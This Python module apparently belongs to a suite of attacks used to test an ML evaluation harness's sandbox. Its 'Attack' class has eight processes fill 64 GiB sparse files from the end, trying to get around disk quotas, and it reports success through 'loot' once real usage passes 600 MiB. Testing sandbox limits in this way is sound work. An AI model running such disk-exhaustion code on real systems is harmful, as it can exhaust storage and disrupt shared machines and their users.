"""Makes sparse files of 64 GiB, which take nothing, and fills their holes from the end, in many processes."""

import os
import time

from aim import HOME, MIB, children_do, loot

from run import ZEWDPCBaseRun

CHILDREN, EACH = 8, 120


def fill(number):
    file = os.open(f"{HOME}/sparse{number}", os.O_RDWR | os.O_CREAT)
    os.ftruncate(file, 64 << 30)
    for at in range(EACH):
        os.pwrite(file, bytes(MIB), (64 << 30) - (at + 1) * 8 * MIB)


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        children_do(fill, CHILDREN)
        time.sleep(4)
        full = sum(os.stat(f"{HOME}/{name}").st_blocks * 512 for name in os.listdir(HOME))
        if full > 600 * MIB:
            loot(f"{full // MIB} MiB")
